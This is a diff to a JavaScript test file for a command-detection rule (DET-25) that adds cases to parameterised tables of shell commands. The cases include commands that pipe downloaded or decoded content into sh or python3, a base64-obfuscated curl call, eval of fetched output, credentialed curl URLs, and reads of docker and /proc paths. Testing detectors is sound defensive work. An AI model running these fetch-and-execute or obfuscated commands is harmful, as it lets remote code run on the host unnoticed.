@@ -286,6 +286,8 @@ describe('a command that opens, carries or leaves (DET-25)', () => {
     [['sh', '-c', 'openssl s_client -connect h:1 | sh']],
     [['sh', '-c', 'base64 -d x | sh -s -- a']],
     [['sh', '-c', 'curl localhost/x | python3 -']],
+    [['bash', '-c', '$(echo Y3VybA== | base64 -d)']],
+    [['sh', '-c', 'eval "$(curl localhost/x)"']],
     [['wget', 'files.example.com']],
     [['curl', 'https://user:pw@files.example.com/x']],
     [['curl', 'http://3405803785/x']],
@@ -328,6 +330,7 @@ describe('a command that opens, carries or leaves (DET-25)', () => {
     [['cat', '/var/run/docker.socket']],
     [['cat', '/proc/11/root']],
     [['docker-entrypoint.sh']],
+    [['sh', '-c', 'x=$(echo aGk= | base64 -d); echo "$x"']],
   ])('is not told: %s', (words) => {
     expect(told(run(...words))).toEqual([])
   })
